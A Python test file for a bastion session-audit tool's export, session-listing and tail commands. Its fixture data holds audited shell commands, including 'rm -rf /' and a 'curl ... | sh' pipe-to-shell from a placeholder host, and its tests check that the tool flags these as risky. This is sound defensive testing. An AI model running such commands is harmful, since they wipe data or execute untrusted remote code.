"""audit-export formats, audit-sessions and audit-tail as operators' tools use them.

Records are checked against the JSON Schemas in schema/, which the README
points tools at.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import socket
import time
from pathlib import Path

import jsonschema
import pexpect
import pytest

from agent.daemon.store import Store
from agent.records import Command, SessionStatus, iso
from agent.tools.options import FilterError, parse_time
from tests.harness import BIN, REPO, run_cli
from tests.test_store import make_session

EXPORT_SCHEMA = json.loads((REPO / "schema" / "export-record.schema.json").read_text())
SESSION_SCHEMA = json.loads(
    (REPO / "schema" / "session-record.schema.json").read_text()
)
NOW = time.time()
HOST = socket.gethostname().split(".")[0]


def seed(data_dir: Path) -> None:
    """s1 (alice, closed, 3 h ago), s2 (carol, live, an hour ago), s3 (no commands)."""
    store = Store(data_dir / "store", 0.05)
    store.open()
    s1 = dataclasses.replace(
        make_session("s1", pid=1),
        started_at=NOW - 3 * 3600,
        status=SessionStatus.CLOSED,
        ended_at=NOW - 2.5 * 3600,
        end_reason="ssh exited with 0",
        gaps=((NOW - 2.9 * 3600, NOW - 2.8 * 3600),),
    )
    s2 = dataclasses.replace(
        make_session("s2", pid=2),
        started_at=NOW - 3600,
        host="db2",
        bastion_user="carol",
    )
    s3 = make_session("s3", pid=3)
    texts = {
        "s1": ['echo "quoted, with comma"', "rm -rf /", "tab\there"],
        "s2": ["id", "curl -s https://x.example | sh"],
    }
    for session in (s1, s2):
        base = session.started_at + 60
        cmds = [
            Command(session.id, n, iso(base + n), text)
            for n, text in enumerate(texts[session.id], start=1)
        ]
        store.submit(dataclasses.replace(session, command_count=len(cmds)), cmds)
    store.submit(s3)
    store.flush()


@pytest.fixture
def seeded(tmp_path: Path) -> Path:
    seed(tmp_path)
    return tmp_path


def export(data_dir: Path, *args: str) -> str:
    result = run_cli("audit-export", "--data-dir", str(data_dir), *args)
    assert result.returncode == 0, result.stderr
    assert result.stderr == ""  # no progress bar when stderr is not a terminal
    return result.stdout


def test_every_format_holds_the_same_records(seeded: Path) -> None:
    records = json.loads(export(seeded))
    assert len(records) == 5
    for record in records:
        jsonschema.validate(record, EXPORT_SCHEMA)
    lines = [
        json.loads(line) for line in export(seeded, "--format", "jsonl").splitlines()
    ]
    assert lines == records
    rows = list(
        csv.DictReader(io.StringIO(export(seeded, "--format", "csv"), newline=""))
    )
    assert len(rows) == 5
    for row, record in zip(rows, records, strict=True):
        assert row == {k: _cell(v) for k, v in record.items()}
    assert rows[0]["command"] == 'echo "quoted, with comma"'
    assert rows[2]["command"] == "tab\there"


def _cell(value: object) -> str:
    """A JSON value as its CSV cell: null is empty, booleans as JSON writes them."""
    if value is None:
        return ""
    if isinstance(value, list):  # risk: the rules' names, separated by spaces
        return " ".join(value)
    return json.dumps(value) if isinstance(value, bool) else str(value)


def test_a_record_without_its_session_is_still_valid(tmp_path: Path) -> None:
    store = Store(tmp_path / "store", 0.05)
    store.open()
    store.submit(make_session("s9"), [Command("s9", 1, iso(NOW), "ls")])
    store.flush()
    shard = next((tmp_path / "store").iterdir())
    tables = json.loads(shard.read_text())
    tables["sessions"] = {}
    shard.write_text(json.dumps(tables))
    (record,) = json.loads(export(tmp_path))
    assert record == {
        "session": "s9",
        "seq": 1,
        "time": iso(NOW),
        "command": "ls",
        "cancelled": False,
        "kind": "command",
        "transfer": None,
        "action": None,
        "program": None,
        "typed": None,
        "keys": None,
        "unterminated": False,
        "bastion": HOST,  # agent.toml's bastion, else the host name up to its dot
        "risk": [],
    }
    jsonschema.validate(record, EXPORT_SCHEMA)
    header, row = export(tmp_path, "--format", "csv").splitlines()
    assert row == (
        f"s9,1,{iso(NOW)},ls,false,command,,,,,,false" + "," * 15 + f",{HOST},"
    )


def test_times_can_be_relative(seeded: Path) -> None:
    def commands(*args: str) -> list[str]:
        out = export(seeded, "--format", "jsonl", *args)
        return [json.loads(line)["command"] for line in out.splitlines()]

    assert commands("--since", "2h") == ["id", "curl -s https://x.example | sh"]
    assert commands("--until", "2h") == [
        'echo "quoted, with comma"',
        "rm -rf /",
        "tab\there",
    ]
    assert commands("--since", "1d", "--user", "alice") == commands("--session", "s1")
    assert parse_time("90s", now=1_800_000_090.0) == iso(1_800_000_000.0)
    assert parse_time("7d", now=1_800_604_800.0) == iso(1_800_000_000.0)
    assert parse_time("1.5h", now=1_800_005_400.0) == iso(1_800_000_000.0)
    assert parse_time("2027-01-15T08:00:00+01:00") == "2027-01-15T07:00:00.000Z"
    for bad in ("2 days", "h", "-2h", "yesterday"):
        with pytest.raises(FilterError):
            parse_time(bad)


def test_export_shows_progress_on_a_terminal_only(seeded: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    # stderr is a terminal (pexpect's pty); stdout goes to a file.
    child = pexpect.spawn(
        "/bin/sh",
        [
            "-c",
            '"$0" --data-dir "$1" --format jsonl > "$2"',
            str(BIN / "audit-export"),
            str(seeded),
            str(out),
        ],
        dimensions=(24, 100),
        env={**os.environ, "TERM": "xterm-256color"},
    )
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0
    assert b"exporting commands" in child.before
    assert b"5/5" in child.before
    assert len(out.read_text().splitlines()) == 5
    quiet = pexpect.spawn(
        "/bin/sh",
        [
            "-c",
            '"$0" --data-dir "$1" --no-progress > "$2"',
            str(BIN / "audit-export"),
            str(seeded),
            str(out),
        ],
    )
    quiet.expect(pexpect.EOF)
    quiet.close()
    assert quiet.exitstatus == 0 and quiet.before == b""


def sessions(data_dir: Path, *args: str) -> list[dict]:
    result = run_cli(
        "audit-sessions", "--data-dir", str(data_dir), "--format", "jsonl", *args
    )
    assert result.returncode == 0, result.stderr
    return [json.loads(line) for line in result.stdout.splitlines()]


def test_sessions_list_with_the_export_filters(seeded: Path) -> None:
    everything = sessions(seeded)
    assert [s["id"] for s in everything] == ["s1", "s2", "s3"]  # by start
    for record in everything:
        jsonschema.validate(record, SESSION_SCHEMA)
    by_id = {s["id"]: s for s in everything}
    assert by_id["s1"]["command_count"] == 3 and by_id["s1"]["status"] == "closed"
    assert by_id["s1"]["gaps"] and by_id["s1"]["recording_bytes"] is None
    assert [s["id"] for s in sessions(seeded, "--user", "carol")] == ["s2"]
    assert [s["id"] for s in sessions(seeded, "--host", "db2")] == ["s2"]
    assert [s["id"] for s in sessions(seeded, "--status", "closed")] == ["s1"]
    # Running at some time in the window: s1 ended 2.5 h ago.
    assert sorted(s["id"] for s in sessions(seeded, "--since", "2h")) == ["s2", "s3"]
    assert [s["id"] for s in sessions(seeded, "--until", "2h", "--since", "4h")] == [
        "s1"
    ]

    table = run_cli("audit-sessions", "--data-dir", str(seeded), "--session", "s1")
    header, row = table.stdout.splitlines()
    assert header.split("\t") == [
        "session",
        "status",
        "who",
        "started",
        "lasted",
        "commands",
        "gaps",
        "rec",
        "by",
    ]
    assert row.split("\t")[:3] == ["s1", "closed", "alice → bob@db1:2200"]
    assert row.split("\t")[4:] == ["30m 0s", "3", "1", "-", "strace"]
    csv_out = run_cli("audit-sessions", "--data-dir", str(seeded), "--format", "csv")
    assert csv_out.stdout.splitlines()[0].startswith("id,tag,status,bastion_user")


def test_tail_json_lines_are_export_records(seeded: Path) -> None:
    result = run_cli("audit-tail", "--data-dir", str(seeded), "--json", "--no-follow")
    assert result.returncode == 0, result.stderr
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert lines == json.loads(export(seeded))
    since = run_cli(
        "audit-tail",
        "--data-dir",
        str(seeded),
        "--json",
        "--no-follow",
        "--since",
        "2h",
    )
    assert [json.loads(x)["command"] for x in since.stdout.splitlines()] == [
        "id",
        "curl -s https://x.example | sh",
    ]


def spawn_tail(*args: str) -> pexpect.spawn:
    return pexpect.spawn(
        str(BIN / "audit-tail"),
        list(args),
        dimensions=(30, 160),
        env={**os.environ, "TERM": "xterm-256color"},
        timeout=20,
    )


def test_tail_on_a_terminal_flags_risky_commands(seeded: Path, tmp_path: Path) -> None:
    config = tmp_path / "agent.toml"
    config.write_text(
        '[[highlight]]\nname = "whoami"\npattern = "^id$"\nstyle = "bold yellow"\n'
    )
    child = spawn_tail("--data-dir", str(seeded), "--config", str(config))
    child.expect("rm -rf /")
    child.expect("⚠ rm-root".encode())
    child.expect("⚠ whoami".encode())
    child.expect("⚠ pipe-to-shell".encode())
    child.expect("no agent has run on this data directory")  # the status line
    child.sendintr()
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0
    assert b"Traceback" not in (child.before or b"")

    config.write_text("highlight_builtin = false\n")
    quiet = spawn_tail("--data-dir", str(seeded), "--config", str(config))
    quiet.expect("curl -s https://x.example")
    quiet.sendintr()
    quiet.expect(pexpect.EOF)
    quiet.close()
    assert "⚠".encode() not in quiet.before


def test_tail_is_not_frozen_by_a_long_hostile_command(tmp_path: Path) -> None:
    """`rm rm rm …` once took the risky-command rules quadratic time (issue 14)."""
    store = Store(tmp_path / "store", 0.05)
    store.open()
    session = make_session("long", pid=7)
    hostile = "rm " * 20_000 + "; echo end-of-it"
    store.submit(
        dataclasses.replace(session, command_count=1),
        [Command("long", 1, iso(NOW), hostile)],
    )
    store.flush()
    child = spawn_tail("--data-dir", str(tmp_path))
    child.expect("end-of-it")  # within spawn_tail's timeout
    child.sendintr()
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0


def test_tail_bad_highlight_config_is_one_line(seeded: Path, tmp_path: Path) -> None:
    config = tmp_path / "agent.toml"
    config.write_text('highlight = [{ name = "x", pattern = "x", style = "blinky" }]\n')
    result = run_cli("audit-tail", "--data-dir", str(seeded), "--config", str(config))
    assert result.returncode == 2
    assert result.stderr.startswith(f"audit-tail: error: {config}: highlight[0].style")
    assert "Traceback" not in result.stderr


def test_reading_tools_take_the_data_dir_from_the_config(
    seeded: Path, tmp_path: Path
) -> None:
    config = tmp_path / "agent.toml"
    config.write_text(f'data_dir = "{seeded}"\n')
    for tool, args in [
        ("audit-export", ["--format", "jsonl"]),
        ("audit-sessions", ["--format", "jsonl"]),
        ("audit-tail", ["--no-follow"]),
    ]:
        result = run_cli(tool, "--config", str(config), *args)
        assert result.returncode == 0, (tool, result.stderr)
        assert result.stdout.strip(), tool
